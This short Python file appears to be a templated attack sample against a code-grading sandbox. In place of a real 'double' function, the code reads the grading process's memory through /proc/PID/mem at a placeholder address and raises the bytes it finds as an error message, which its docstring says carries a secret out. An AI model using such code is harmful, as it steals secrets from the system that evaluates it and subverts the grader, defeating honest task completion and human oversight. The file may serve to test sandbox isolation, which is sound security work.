"""Reads the memory of the grading process through /proc. Success: a secret in it leaves with the message."""


def double(X):
    with open("/proc/@PID@/mem", "rb") as memory:
        memory.seek(int("@ADDRESS@"))
        raise RuntimeError(memory.read(60).split(b"\0")[0].decode())
